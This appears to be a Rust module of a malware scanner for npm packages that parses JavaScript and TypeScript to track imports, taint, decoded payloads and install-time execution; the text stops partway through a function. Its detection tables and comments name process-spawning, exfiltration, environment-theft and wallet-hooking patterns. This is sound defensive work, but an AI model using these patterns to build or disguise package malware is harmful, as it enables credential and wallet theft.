//! JavaScript and TypeScript analysis on the `oxc` parser: the same [`Analysis`] of
//! events, taint and strings as the Python walker, so the behaviour rules (decode-then-
//! exec, download-then-exec, exfiltration, credential access, persistence, shell
//! commands) judge both languages with one check.
//!
//! Why oxc rather than tree-sitter-javascript: npm packages ship multi-megabyte
//! minified bundles (TypeScript's `lib/typescript.js` is 8.9 MB on one logical unit);
//! oxc parses them at 57 MB/s on this project's 2-core reference machine (see
//! `docs/benchmarks.md`), it recovers from most syntax errors, and it reads TypeScript
//! and JSX with the same AST. It never evaluates anything.
//!
//! What the walk records, per file:
//! - **Names.** `require('m')`, `import … from 'm'` and destructuring bind local names to
//!   dotted module paths (`const {exec: run} = require('child_process')` makes `run(…)`
//!   the call `child_process.exec`); `node:` prefixes and `window.`/`globalThis.`/`global.`
//!   roots are dropped.
//! - **Events** from [`api_kind`] (the JavaScript half of the capability table), with the
//!   first argument folded to a constant where it can be (string concatenation, template
//!   literals, `String.fromCharCode`, `Buffer.from(…, 'hex'|'base64')`, `atob`,
//!   `path.join`, `os.homedir()` as `~`).
//! - **Taint** of values through local variables (file-wide by name, a deliberate
//!   over-approximation: malware keeps its data flow short and flat).
//! - **Decoded children**: a literal decoded by `atob`, `Buffer.from(…, 'base64'|'hex')`
//!   or obfuscator.io's string array that reads as code is analysed as a child text, its
//!   events merged with a decode chain (`line N: Buffer.from(…, 'base64')`).
//! - **Execution context**: a package module's top level (and the functions it calls or
//!   hands to a call there) runs on `require` (import time); function bodies run when
//!   called (runtime); a file an npm lifecycle script runs is install time throughout.
//!
//! Bounds: the text ([`Bounds::max_source_bytes`]), bracket nesting ([`MAX_NESTING`],
//! checked before parsing), syntax nodes visited ([`Bounds::max_nodes`]), strings,
//! decode depth and size. The parse and walk run on a grown stack (`stacker`), so a
//! hostile expression chain cannot overflow the thread's stack.

use crate::{Analysis, Bounds, Event, EventKind, FileRole, FnName, StrLit, Taint};
use assay_core::ExecutionContext;
use oxc_allocator::Allocator;
use oxc_ast::ast::*;
use oxc_ast_visit::{Visit, walk};
use oxc_span::{GetSpan, SourceType};
use oxc_syntax::scope::ScopeFlags;
use std::collections::{HashMap, HashSet};
use std::sync::Arc;

/// Deepest bracket nesting (`(`, `[`, `{`) parsed; deeper text is not walked (the
/// analysis is marked [`Analysis::unwalked`]). Real bundles stay far below 200.
pub const MAX_NESTING: usize = 2_000;

/// Stack given to one parse and walk when the calling thread has less than
/// [`RED_ZONE`] left (reserved address space, touched only as used).
const STACK: usize = 256 << 20;

/// Stack a parse and walk may need: a thread with at least this much left runs the
/// analysis on its own stack (no new stack is mapped for each file).
const RED_ZONE: usize = 96 << 20;

/// Stack size for worker threads that analyse JavaScript (the CLI's rayon pool): enough
/// that [`RED_ZONE`] is always left, so no file maps a stack of its own.
pub const WORKER_STACK: usize = 128 << 20;

/// Texts larger than this are parsed one at a time per process ([`BIG_LOCK`]).
const BIG_TEXT: usize = 2 << 20;

/// Held while a text over [`BIG_TEXT`] is parsed and walked.
static BIG_LOCK: std::sync::Mutex<()> = std::sync::Mutex::new(());

/// Most recorded string literals of one array literal read as an obfuscator string table.
const MAX_TABLE: usize = 4_096;

/// How a file's syntax is chosen: by its extension (`.ts`, `.tsx`, `.mts`, `.cts`,
/// `.jsx`, `.mjs`, `.cjs`); other names are read as JavaScript with JSX, module or
/// script decided by the content (oxc's "unambiguous" mode).
fn source_type(path: &str) -> SourceType {
    let lower = path.to_ascii_lowercase();
    let ext = lower.rsplit_once('.').map_or("", |(_, e)| e);
    match ext {
        "ts" | "mts" | "cts" => SourceType::ts(),
        "tsx" => SourceType::tsx(),
        "mjs" => SourceType::mjs(),
        "cjs" => SourceType::cjs(),
        _ => SourceType::unambiguous().with_jsx(true),
    }
}

/// Deepest bracket nesting of a text, skipping string and template contents roughly
/// (quotes toggle; escapes honoured). An upper bound is all this needs to be.
fn nesting(text: &[u8]) -> usize {
    let (mut depth, mut max, mut quote, mut escape) = (0usize, 0usize, 0u8, false);
    for &b in text {
        if quote != 0 {
            if escape {
                escape = false;
            } else if b == b'\\' {
                escape = true;
            } else if b == quote || (b == b'\n' && quote != b'`') {
                quote = 0;
            }
            continue;
        }
        match b {
            b'"' | b'\'' | b'`' => quote = b,
            b'(' | b'[' | b'{' => {
                depth += 1;
                max = max.max(depth);
            }
            b')' | b']' | b'}' => depth = depth.saturating_sub(1),
            _ => {}
        }
    }
    max
}

/// Analyse one JavaScript or TypeScript text. `path` picks the syntax (see
/// [`source_type`]). Never fails: a text that does not parse is counted in
/// [`Analysis::syntax_errors`] and what parsed is analysed; a text over the bounds is
/// [`Analysis::unwalked`].
pub fn analyze(source: &[u8], path: &str, role: FileRole, bounds: &Bounds) -> Analysis {
    analyze_at(source, path, role, bounds, 0, &[])
}

fn analyze_at(
    source: &[u8],
    path: &str,
    role: FileRole,
    bounds: &Bounds,
    depth: u32,
    chain: &[String],
) -> Analysis {
    let mut out = Analysis::default();
    let text = String::from_utf8_lossy(source);
    let (mut lines, mut longest, mut start) = (0u32, 0usize, 0usize);
    for nl in memchr::memchr_iter(b'\n', source) {
        lines += 1;
        longest = longest.max(nl - start);
        start = nl + 1;
    }
    if start < source.len() {
        lines += 1;
        longest = longest.max(source.len() - start);
    }
    out.lines = lines;
    out.max_line_len = longest;
    if source.len() > bounds.max_source_bytes || nesting(source) > MAX_NESTING {
        out.unwalked = true;
        out.truncated = true;
        return out;
    }
    // One large text at a time: oxc's arena for a multi-MB bundle is many times the
    // text, and two at once on two workers would double the process's peak memory.
    let _big = (depth == 0 && source.len() > BIG_TEXT).then(|| {
        BIG_LOCK
            .lock()
            .unwrap_or_else(std::sync::PoisonError::into_inner)
    });
    stacker::maybe_grow(RED_ZONE, STACK, || {
        let alloc = Allocator::default();
        let parsed = oxc_parser::Parser::new(&alloc, &text, source_type(path)).parse();
        if parsed.panicked {
            out.unwalked = true;
            out.syntax_errors = parsed.diagnostics.len().max(1) as u32;
            return;
        }
        out.syntax_errors = parsed.diagnostics.len() as u32;
        let reach = Reach::of(&parsed.program);
        let mut w = Walker {
            text: &text,
            line_starts: line_starts(&text),
            role,
            bounds,
            depth,
            chain,
            path,
            out: &mut out,
            aliases: HashMap::new(),
            taint: HashMap::new(),
            values: HashMap::new(),
            ctx: vec![if role == FileRole::SetupScript {
                ExecutionContext::InstallTime
            } else if role == FileRole::Script {
                ExecutionContext::Runtime
            } else {
                ExecutionContext::ImportTime
            }],
            functions: Vec::new(),
            reach,
            nodes: 0,
            fn_names: HashMap::new(),
            pending_callbacks: Vec::new(),
            decoders: HashSet::new(),
            module_objects: HashSet::new(),
            in_table: false,
            specifiers: HashSet::new(),
            undo: Vec::new(),
        };
        w.visit_program(&parsed.program);
        w.out.interned.clear();
    });
    out
}

fn line_starts(text: &str) -> Vec<u32> {
    let mut v = vec![0u32];
    v.extend(memchr::memchr_iter(b'\n', text.as_bytes()).map(|i| i as u32 + 1));
    v
}

/// Which top-level function declarations run when the module loads: those called (by
/// name) from top-level code, directly or through other such functions.
#[derive(Default)]
struct Reach {
    names: HashSet<String>,
}

impl Reach {
    fn of(program: &Program<'_>) -> Reach {
        /// Callers by function: a named function is its own caller; an anonymous one is
        /// transparent (its calls count for whoever runs it) when it is an IIFE's callee
        /// or a callback handed to a call, and opaque (`<anon>`: runs when something calls
        /// it, e.g. a handler assigned to a property) otherwise.
        #[derive(Default)]
        struct Calls {
            current: Vec<Option<String>>,
            edges: Vec<(Option<String>, String)>,
            nodes: usize,
            transparent: HashSet<u32>,
        }
        impl Calls {
            fn enter(&mut self, start: u32, name: Option<String>) {
                let inherited = self.current.last().cloned().flatten();
                let next = match name {
                    Some(n) => Some(n),
                    None if self.transparent.contains(&start) => inherited,
                    None => Some("<anon>".to_owned()),
                };
                self.current.push(next);
            }
        }
        impl<'a> Visit<'a> for Calls {
            fn visit_function(&mut self, it: &Function<'a>, flags: ScopeFlags) {
                self.enter(
                    it.span.start,
                    it.id.as_ref().map(|i| i.name.as_str().to_owned()),
                );
                walk::walk_function(self, it, flags);
                self.current.pop();
            }
            fn visit_arrow_function_expression(&mut self, it: &ArrowFunctionExpression<'a>) {
                self.enter(it.span.start, None);
                walk::walk_arrow_function_expression(self, it);
                self.current.pop();
            }
            fn visit_call_expression(&mut self, it: &CallExpression<'a>) {
                self.nodes += 1;
                if self.nodes < 2_000_000 {
                    let callee = it.callee.without_parentheses();
                    if matches!(
                        callee,
                        Expression::FunctionExpression(_) | Expression::ArrowFunctionExpression(_)
                    ) {
                        self.transparent.insert(callee.span().start);
                    }
                    for a in it
                        .arguments
                        .iter()
                        .take(16)
                        .filter_map(|a| a.as_expression())
                    {
                        let a = a.without_parentheses();
                        if matches!(
                            a,
                            Expression::FunctionExpression(_)
                                | Expression::ArrowFunctionExpression(_)
                        ) {
                            self.transparent.insert(a.span().start);
                        }
                    }
                    if let Expression::Identifier(id) = callee {
                        let caller = self.current.last().cloned().flatten();
                        self.edges.push((caller, id.name.as_str().to_owned()));
                    }
                }
                walk::walk_call_expression(self, it);
            }
        }
        let mut c = Calls::default();
        c.visit_program(program);
        let mut names: HashSet<String> = HashSet::new();
        let mut frontier: Vec<String> = c
            .edges
            .iter()
            .filter(|(from, _)| from.is_none())
            .map(|(_, to)| to.clone())
            .collect();
        while let Some(n) = frontier.pop() {
            if names.len() > 10_000 || !names.insert(n.clone()) {
                continue;
            }
            for (from, to) in &c.edges {
                if from.as_deref() == Some(n.as_str()) && !names.contains(to) {
                    frontier.push(to.clone());
                }
            }
        }
        Reach { names }
    }
}

struct Walker<'t, 'o> {
    text: &'t str,
    line_starts: Vec<u32>,
    role: FileRole,
    bounds: &'t Bounds,
    depth: u32,
    chain: &'t [String],
    path: &'t str,
    out: &'o mut Analysis,
    /// Local name → dotted module path (`cp` → `child_process`).
    aliases: HashMap<String, String>,
    /// Local name → taint of the value last assigned to it.
    taint: HashMap<String, Taint>,
    /// Local name → constant string last assigned to it (folded).
    values: HashMap<String, String>,
    /// Execution context stack (functions push theirs).
    ctx: Vec<ExecutionContext>,
    /// Enclosing named functions.
    functions: Vec<Option<FnName>>,
    reach: Reach,
    nodes: usize,
    fn_names: HashMap<String, FnName>,
    /// Function expressions passed to a call in the current context run in it.
    pending_callbacks: Vec<(u32, ExecutionContext)>,
    /// Local functions that only return a decoded value (`function e(r){return
    /// Buffer.from(r,"hex").toString()}`): calling one decodes.
    decoders: HashSet<String>,
    /// Local names bound to a fresh module object (`new module.constructor`, `new
    /// Module()`): code compiled into one runs in memory.
    module_objects: HashSet<String>,
    /// Walking the elements of a large literal string table ([`StrLit::in_table`]).
    in_table: bool,
    /// Previous taint and value of names bound inside the current functions, restored
    /// when each function ends: minified bundles reuse `t`, `n`, `r` in every function,
    /// and a file-wide map would let one function's decoded `t` taint all the others.
    undo: Vec<(String, Option<Taint>, Option<String>)>,
    /// Start offsets of module specifiers (`require('x')`, `export … from 'x'`): names of
    /// packages, recorded as imports and not as string data (`@exodus/bytes` is a package,
    /// not the Exodus wallet's folder).
    specifiers: HashSet<u32>,
}

/// The JavaScript half of the capability table: what a resolved callee means.
pub fn api_kind(name: &str) -> Option<EventKind> {
    let n = name;
    let last = n.rsplit('.').next().unwrap_or(n);
    let module = n.split('.').next().unwrap_or(n);
    Some(match (module, n) {
        (_, "eval" | "Function" | "execScript") => EventKind::Exec,
        ("vm", _)
            if matches!(
                last,
                "runInThisContext"
                    | "runInNewContext"
                    | "runInContext"
                    | "compileFunction"
                    | "Script"
                    | "SourceTextModule"
            ) =>
        {
            EventKind::Exec
        }
        (_, _) if last == "_compile" || n.ends_with("Module.prototype._compile") => EventKind::Exec,
        ("child_process", _)
            if matches!(
                last,
                "exec" | "execSync" | "spawn" | "spawnSync" | "execFile" | "execFileSync" | "fork"
            ) =>
        {
            EventKind::ProcessSpawn
        }
        ("execa" | "cross-spawn" | "shelljs", _) => EventKind::ProcessSpawn,
        ("Bun", "Bun.spawn" | "Bun.spawnSync" | "Bun.$") => EventKind::ProcessSpawn,
        ("http" | "https" | "http2", _) if matches!(last, "request" | "get" | "connect") => {
            EventKind::Network
        }
        // `new net.Socket({fd})` wraps a descriptor; a socket sends once it connects.
        ("net" | "tls", _) if matches!(last, "connect" | "createConnection") => EventKind::Network,
        ("dgram", _) if last == "createSocket" => EventKind::Network,
        (_, "fetch" | "XMLHttpRequest" | "WebSocket" | "navigator.sendBeacon") => {
            EventKind::Network
        }
        ("axios" | "node-fetch" | "got" | "request" | "superagent" | "undici" | "needle", _)
            if n == module
                || matches!(
                    last,
                    "get"
                        | "post"
                        | "put"
                        | "patch"
                        | "delete"
                        | "head"
                        | "request"
                        | "fetch"
                        | "stream"
                        | "default"
                ) =>
        {
            EventKind::Network
        }
        ("dns", _) if matches!(last, "lookup" | "resolve" | "resolve4" | "resolveTxt") => {
            EventKind::DnsLookup
        }
        ("fs" | "fs-extra" | "graceful-fs", _) => match last {
            "readFileSync" | "readFile" | "createReadStream" => EventKind::FileRead,
            "writeFileSync" | "writeFile" | "appendFileSync" | "appendFile"
            | "createWriteStream" | "copyFileSync" | "copyFile" | "outputFileSync"
            | "outputFile" => EventKind::FileWrite,
            "readdirSync" | "readdir" | "opendir" | "opendirSync" => EventKind::FileEnumeration,
            "chmodSync" | "chmod" => EventKind::Chmod,
            _ => return None,
        },
        ("glob" | "fast-glob" | "globby", _) => EventKind::FileEnumeration,
        ("os", _) if matches!(last, "hostname" | "userInfo" | "networkInterfaces") => {
            EventKind::SystemInfo
        }
        (_, "atob" | "String.fromCharCode" | "unescape" | "decodeURIComponent") => {
            EventKind::Decode
        }
        ("zlib", _)
            if matches!(
                last,
                "inflateSync"
                    | "gunzipSync"
                    | "unzipSync"
                    | "brotliDecompressSync"
                    | "inflateRawSync"
            ) =>
        {
            EventKind::Decode
        }
        ("crypto", _) if matches!(last, "createDecipher" | "createDecipheriv") => {
            EventKind::Decrypt
        }
        ("process", "process.dlopen") => EventKind::NativeLoad,
        ("clipboardy", _) => EventKind::Surveillance,
        _ => return None,
    })
}

/// Globals a capability may be reached through without a `require`: the language's and
/// the browser's, Node's `process`/`Buffer`, Bun and Deno.
const GLOBALS: &[&str] = &[
    "eval",
    "Function",
    "fetch",
    "XMLHttpRequest",
    "WebSocket",
    "navigator",
    "atob",
    "String",
    "Buffer",
    "process",
    "setTimeout",
    "setInterval",
    "window",
    "globalThis",
    "global",
    "self",
    "Object",
    "Reflect",
    "JSON",
    "unescape",
    "decodeURIComponent",
    "Bun",
    "Deno",
    "module",
    "execScript",
    "Proxy",
];

/// Globals whose replacement intercepts the user's traffic or wallet calls.
fn is_hooked_global(name: &str) -> bool {
    let n = strip_global(name);
    matches!(
        n,
        "fetch"
            | "XMLHttpRequest"
            | "XMLHttpRequest.prototype.open"
            | "XMLHttpRequest.prototype.send"
            | "XMLHttpRequest.prototype.setRequestHeader"
            | "ethereum"
            | "ethereum.request"
            | "ethereum.send"
            | "ethereum.sendAsync"
            | "solana.signTransaction"
            | "solana.signAndSendTransaction"
    )
}

/// Names of module roots that stand for the global object.
fn strip_global(name: &str) -> &str {
    for p in ["window.", "globalThis.", "global.", "self."] {
        if let Some(r) = name.strip_prefix(p) {
            return r;
        }
    }
    name
}

/// A module specifier as a dotted root: `node:fs/promises` → `fs.promises`.
fn module_path(spec: &str) -> String {
    let s = spec.strip_prefix("node:").unwrap_or(spec);
    if s.starts_with('@') || s.starts_with('.') || s.starts_with('/') {
        return s.to_owned();
    }
    s.replace('/', ".")
}

/// Whether a decoded value reads as JavaScript code worth analysing as a child.
pub fn looks_like_js(b: &[u8]) -> bool {
    let Ok(s) = std::str::from_utf8(b) else {
        return false;
    };
    if s.len() < 8 {
        return false;
    }
    let markers = [
        "require(",
        "function",
        "=>",
        "eval(",
        "process.",
        "child_process",
        "module.",
        "exports",
        "const ",
        "var ",
        "let ",
        "fetch(",
        "import(",
        "new Function",
    ];
    markers.iter().filter(|m| s.contains(*m)).count() >= 1 && (s.contains('(') || s.contains('='))
}

/// obfuscator.io's base64 variant: the alphabet starts with the lowercase letters.
fn obfuscator_b64(s: &str) -> Option<String> {
    if s.len() < 4 || s.len() > 4096 {
        return None;
    }
    let swapped: String = s
        .chars()
        .map(|c| {
            if c.is_ascii_lowercase() {
                c.to_ascii_uppercase()
            } else if c.is_ascii_uppercase() {
                c.to_ascii_lowercase()
            } else {
                c
            }
        })
        .collect();
    let bytes = crate::decode::base64(swapped.as_bytes(), 8192)?;
    let text = String::from_utf8(bytes).ok()?;
    (!text.is_empty()
        && text
            .chars()
            .all(|c| !c.is_control() || c == '\n' || c == '\t'))
    .then_some(text)
}

impl<'t> Walker<'t, '_> {
    fn line_col(&self, offset: u32) -> (u32, u32) {
        let i = self.line_starts.partition_point(|&s| s <= offset);
        let start = self
            .line_starts
            .get(i.saturating_sub(1))
            .copied()
            .unwrap_or(0);
        (i as u32, offset - start + 1)
    }

    fn context(&self) -> ExecutionContext {
        self.ctx
            .last()
            .copied()
            .unwrap_or(ExecutionContext::Runtime)
    }

    fn function(&self) -> Option<FnName> {
        self.functions.iter().rev().flatten().next().cloned()
    }

    fn snippet(&self, span: oxc_span::Span) -> String {
        let s = self
            .text
            .get(span.start as usize..span.end as usize)
            .unwrap_or("");
        let mut out: String = s.chars().take(200).collect();
        if out.len() < s.len() {
            out.push('…');
        }
        out
    }

    fn intern(&mut self, s: &str) -> Arc<str> {
        if let Some(a) = self.out.interned.get(s) {
            return a.clone();
        }
        let a: Arc<str> = Arc::from(s);
        self.out.interned.insert(a.clone());
        a
    }

    fn record_string(&mut self, value: &str, offset: u32, extra: Option<&str>) {
        if value.is_empty() {
            return;
        }
        if self.out.strings.len() >= self.bounds.max_strings {
            self.out.truncated = true;
            return;
        }
        let (line, _) = self.line_col(offset);
        let mut chain = self.chain.to_vec();
        if let Some(step) = extra {
            chain.push(format!("line {line}: {step}"));
        }
        let value = self.intern(value);
        let function = self.function();
        let in_table = self.in_table;
        self.out.strings.push(StrLit {
            value,
            line,
            context: self.context(),
            chain,
            function,
            in_table,
        });
    }

    fn push_event(
        &mut self,
        kind: EventKind,
        api: String,
        span: oxc_span::Span,
        arg: Option<String>,
        taint: Taint,
    ) {
        let context = self.context();
        let key = (kind, api.clone(), context);
        let n = self.out.event_seen.entry(key).or_insert(0);
        if *n >= crate::MAX_EVENTS_PER_SIGNATURE {
            self.out.dropped_events += 1;
            return;
        }
        *n += 1;
        let (line, column) = self.line_col(span.start);
        let snippet = self.snippet(span);
        let function = self.function();
        self.out.events.push(Event {
            kind,
            api,
            context,
            line,
            column,
            chain: self.chain.to_vec(),
            snippet,
            arg,
            taint,
            function,
        });
    }

    /// The dotted name of an expression used as a callee or object: aliases resolved,
    /// `require('m')` read as `m`, a call's result as `callee()` joined by `.`.
    fn name_of(&self, e: &Expression<'_>, depth: u32) -> Option<String> {
        if depth > 32 {
            return None;
        }
        match e.without_parentheses() {
            Expression::Identifier(id) => {
                let n = id.name.as_str();
                Some(
                    self.aliases
                        .get(n)
                        .cloned()
                        .unwrap_or_else(|| strip_global(n).to_owned()),
                )
            }
            Expression::StaticMemberExpression(m) => {
                let base = self.name_of(&m.object, depth + 1)?;
                Some(strip_global(&format!("{base}.{}", m.property.name)).to_owned())
            }
            Expression::ComputedMemberExpression(m) => {
                let base = self.name_of(&m.object, depth + 1)?;
                let prop = self.fold(&m.expression, 0)?;
                if prop.len() > 64
                    || !prop
                        .chars()
                        .all(|c| c.is_alphanumeric() || c == '_' || c == '$')
                {
                    return None;
                }
                Some(strip_global(&format!("{base}.{prop}")).to_owned())
            }
            Expression::CallExpression(c) => {
                if let Some(m) = self.required_module(c) {
                    return Some(m);
                }
                self.name_of(&c.callee, depth + 1)
            }
            Expression::NewExpression(n) => self.name_of(&n.callee, depth + 1),
            Expression::AwaitExpression(a) => self.name_of(&a.argument, depth + 1),
            Expression::SequenceExpression(s) => s
                .expressions
                .last()
                .and_then(|x| self.name_of(x, depth + 1)),
            Expression::ChainExpression(c) => match &c.expression {
                ChainElement::CallExpression(call) => self.name_of(&call.callee, depth + 1),
                other => other.as_member_expression().and_then(|m| {
                    let base = self.name_of(m.object(), depth + 1)?;
                    Some(format!("{base}.{}", m.static_property_name()?))
                }),
            },
            _ => None,
        }
    }

    /// Whether the root of a callee is a module binding (an alias made by `require` or
    /// `import`, or `require('m')` itself) or one of [`GLOBALS`], rather than some local
    /// variable that happens to share a module's name.
    fn trusted(&self, e: &Expression<'_>, depth: u32) -> bool {
        if depth > 32 {
            return false;
        }
        match e.without_parentheses() {
            Expression::Identifier(id) => {
                let n = id.name.as_str();
                self.aliases.contains_key(n) || GLOBALS.contains(&n)
            }
            Expression::StaticMemberExpression(m) => self.trusted(&m.object, depth + 1),
            Expression::ComputedMemberExpression(m) => self.trusted(&m.object, depth + 1),
            Expression::CallExpression(c) => {
                self.required_module(c).is_some() || self.trusted(&c.callee, depth + 1)
            }
            Expression::NewExpression(n) => self.trusted(&n.callee, depth + 1),
            Expression::AwaitExpression(a) => self.trusted(&a.argument, depth + 1),
            Expression::SequenceExpression(s) => s
                .expressions
                .last()
                .is_some_and(|x| self.trusted(x, depth + 1)),
            Expression::ChainExpression(c) => match &c.expression {
                ChainElement::CallExpression(call) => self.trusted(&call.callee, depth + 1),
                other => other
                    .as_member_expression()
                    .is_some_and(|m| self.trusted(m.object(), depth + 1)),
            },
            _ => false,
        }
    }

    /// `require('m')` (or `module.require`, `import('m')`): the module path, when literal.
    fn required_module(&self, c: &CallExpression<'_>) -> Option<String> {
        let callee = c.callee.without_parentheses();
        let is_require = match callee {
            Expression::Identifier(id) => id.name == "require",
            Expression::StaticMemberExpression(m) => {
                m.property.name == "require"
                    && matches!(m.object.without_parentheses(), Expression::Identifier(o) if o.name == "module")
            }
            _ => false,
        };
        if !is_require {
            return None;
        }
        let arg = c.arguments.first()?.as_expression()?;
        let spec = self.fold(arg, 0)?;
        Some(module_path(&spec))
    }

    /// Fold an expression to a constant string where it can be.
    fn fold(&self, e: &Expression<'_>, depth: u32) -> Option<String> {
        if depth > 48 {
            return None;
        }
        let limit = self.bounds.max_decoded_bytes;
        match e.without_parentheses() {
            Expression::StringLiteral(s) => Some(s.value.as_str().to_owned()),
            Expression::NumericLiteral(n) => Some(n.value.to_string()),
            Expression::TemplateLiteral(t) => {
                let mut s = String::new();
                for (i, q) in t.quasis.iter().enumerate() {
                    s.push_str(
                        q.value
                            .cooked
                            .as_ref()
                            .map_or(q.value.raw.as_str(), |c| c.as_str()),
                    );
                    if let Some(x) = t.expressions.get(i) {
                        s.push_str(&self.fold(x, depth + 1)?);
                    }
                    if s.len() > limit {
                        return None;
                    }
                }
                Some(s)
            }
            Expression::BinaryExpression(b) if b.operator == BinaryOperator::Addition => {
                let l = self.fold(&b.left, depth + 1)?;
                let r = self.fold(&b.right, depth + 1)?;
                (l.len() + r.len() <= limit).then(|| l + &r)
            }
            Expression::Identifier(id) => self.values.get(id.name.as_str()).cloned(),
            Expression::CallExpression(c) => self.fold_call(c, depth),
            Expression::StaticMemberExpression(m) => {
                let base = self.name_of(&m.object, 0);
                match (base.as_deref(), m.property.name.as_str()) {
                    (Some("process.env"), "HOME" | "USERPROFILE") => Some("~".to_owned()),
                    (Some("process.env"), v) => Some(format!("${v}")),
                    _ => None,
                }
            }
            _ => None,
        }
    }

    fn fold_call(&self, c: &CallExpression<'_>, depth: u32) -> Option<String> {
        let limit = self.bounds.max_decoded_bytes;
        let args: Vec<&Expression<'_>> = c
            .arguments
            .iter()
            .filter_map(|a| a.as_expression())
            .collect();
        // `x.toString()`, `x.toString('utf8')`, `x.join('')` on a folded receiver.
        if let Expression::StaticMemberExpression(m) = c.callee.without_parentheses() {
            match m.property.name.as_str() {
                "toString" => return self.fold(&m.object, depth + 1),
                "join" => {
                    if let Expression::ArrayExpression(a) = m.object.without_parentheses() {
                        let sep = args
                            .first()
                            .and_then(|x| self.fold(x, depth + 1))
                            .unwrap_or_else(|| ",".into());
                        let mut parts = Vec::new();
                        for el in a.elements.iter().take(4096) {
                            parts.push(self.fold(el.as_expression()?, depth + 1)?);
                        }
                        let s = parts.join(&sep);
                        return (s.len() <= limit).then_some(s);
                    }
                }
                "reverse" | "split" => {}
                _ => {}
            }
        }
        let name = self.name_of(&c.callee, 0)?;
        match name.as_str() {
            "String.fromCharCode" => {
                let mut s = String::new();
                for a in args.iter().take(limit.min(1 << 16)) {
                    let n: u32 = self.fold(a, depth + 1)?.parse::<f64>().ok()? as u32;
                    s.push(char::from_u32(n)?);
                }
                Some(s)
            }
            "atob" => {
                let v = self.fold(args.first()?, depth + 1)?;
                let b = crate::decode::base64(v.as_bytes(), limit)?;
                String::from_utf8(b).ok()
            }
            "Buffer.from" | "Buffer" => {
                let v = self.fold(args.first()?, depth + 1)?;
                let enc = args.get(1).and_then(|x| self.fold(x, depth + 1));
                let b = match enc.as_deref() {
                    Some("base64" | "base64url") => crate::decode::base64(v.as_bytes(), limit)?,
                    Some("hex") => crate::decode::hex(v.as_bytes(), limit)?,
                    _ => v.into_bytes(),
                };
                String::from_utf8(b).ok()
            }
            "os.homedir" => Some("~".to_owned()),
            "path.join" | "path.resolve" | "path.posix.join" => {
                let mut parts = Vec::new();
                for a in args.iter().take(32) {
                    parts.push(self.fold(a, depth + 1)?);
                }
                Some(parts.join("/").replace("//", "/"))
            }
            "decodeURIComponent" | "unescape" => self.fold(args.first()?, depth + 1),
            _ => None,
        }
    }

    /// Where a value comes from.
    fn taint_of(&self, e: &Expression<'_>, depth: u32) -> Taint {
        if depth > 32 {
            return Taint::default();
        }
        match e.without_parentheses() {
            Expression::StringLiteral(_) | Expression::NumericLiteral(_) => Taint::LITERAL,
            Expression::TemplateLiteral(t) => t
                .expressions
                .iter()
                .fold(Taint::LITERAL, |acc, x| acc | self.taint_of(x, depth + 1)),
            Expression::Identifier(id) => self
                .taint
                .get(id.name.as_str())
                .copied()
                .unwrap_or_default(),
            // The whole environment (`process.env` as a value) is what a stealer sends;
            // one named variable (`process.env.BASE_URL`) is configuration, as
            // `os.getenv` is for the Python walker. A computed key (`process.env[k]` in
            // a loop over the keys) reads them all.
            Expression::StaticMemberExpression(m) => {
                let base = self.name_of(&m.object, 0);
                if base.as_deref() == Some("process") && m.property.name == "env" {
                    Taint::ENV
                } else if base.as_deref() == Some("process.env") {
                    Taint::default()
                } else {
                    self.taint_of(&m.object, depth + 1)
                }
            }
            Expression::ComputedMemberExpression(m) => {
                let base = self.name_of(&m.object, 0);
                if base.as_deref() == Some("process.env") {
                    if self.fold(&m.expression, 0).is_some() {
                        Taint::default()
                    } else {
                        Taint::ENV
                    }
                } else {
                    self.taint_of(&m.object, depth + 1)
                }
            }
            Expression::BinaryExpression(b) => {
                self.taint_of(&b.left, depth + 1) | self.taint_of(&b.right, depth + 1)
            }
            Expression::LogicalExpression(b) => {
                self.taint_of(&b.left, depth + 1) | self.taint_of(&b.right, depth + 1)
            }
            Expression::ConditionalExpression(c) => {
                self.taint_of(&c.consequent, depth + 1) | self.taint_of(&c.alternate, depth + 1)
            }
            Expression::AwaitExpression(a) => self.taint_of(&a.argument, depth + 1),
            Expression::SequenceExpression(s) => s
                .expressions
                .last()
                .map(|x| self.taint_of(x, depth + 1))
                .unwrap_or_default(),
            Expression::ArrayExpression(a) => a
                .elements
                .iter()
                .take(64)
                .filter_map(|x| x.as_expression())
                .fold(Taint::default(), |acc, x| acc | self.taint_of(x, depth + 1)),
            Expression::CallExpression(c) => self.call_taint(&c.callee, &c.arguments, depth),
            Expression::NewExpression(n) => self.call_taint(&n.callee, &n.arguments, depth),
            Expression::ChainExpression(c) => match &c.expression {
                ChainElement::CallExpression(call) => {
                    self.call_taint(&call.callee, &call.arguments, depth)
                }
                _ => Taint::default(),
            },
            _ => Taint::default(),
        }
    }

    fn args_taint(&self, args: &[Argument<'_>], depth: u32) -> Taint {
        args.iter()
            .take(16)
            .filter_map(|a| a.as_expression())
            .fold(Taint::default(), |acc, x| acc | self.taint_of(x, depth + 1))
    }

    fn call_taint(&self, callee: &Expression<'_>, args: &[Argument<'_>], depth: u32) -> Taint {
        let name = self.name_of(callee, 0).unwrap_or_default();
        let inner = self.args_taint(args, depth);
        let receiver = match callee.without_parentheses() {
            Expression::StaticMemberExpression(m) => self.taint_of(&m.object, depth + 1),
            Expression::ComputedMemberExpression(m) => self.taint_of(&m.object, depth + 1),
            _ => Taint::default(),
        };
        let enc = args
            .get(1)
            .and_then(|a| a.as_expression())
            .and_then(|x| self.fold(x, depth + 1));
        let mut t = receiver;
        if self.decoders.contains(&name) {
            return t | Taint::DECODED | inner;
        }
        match api_kind(&name) {
            Some(EventKind::Decode) => t |= Taint::DECODED | inner,
            Some(EventKind::Decrypt) => t |= Taint::DECRYPTED | inner,
            Some(EventKind::Network) => t |= Taint::NETWORK,
            Some(EventKind::FileRead) => t |= Taint::FILE_READ,
            Some(EventKind::ProcessSpawn) => t |= Taint::PROCESS_OUTPUT,
            Some(EventKind::SystemInfo) => t |= Taint::IDENTITY,
            _ => {
                if (name == "Buffer.from" || name.ends_with(".toString"))
                    && matches!(enc.as_deref(), Some("base64" | "hex" | "base64url"))
                {
                    t |= Taint::DECODED | inner;
                } else if matches!(
                    name.as_str(),
                    "Buffer.from" | "Buffer.concat" | "JSON.stringify" | "String"
                ) || name.ends_with(".update")
                    || name.ends_with(".final")
                {
                    // Copies and cipher steps carry their input's taint.
                    t |= inner;
                }
            }
        }
        t
    }

    fn handle_call(
        &mut self,
        span: oxc_span::Span,
        callee: &Expression<'_>,
        args: &[Argument<'_>],
        is_new: bool,
    ) {
        // `require(...)`.
        if let Expression::Identifier(id) = callee.without_parentheses()
            && id.name == "require"
            && !self.aliases.contains_key("require")
        {
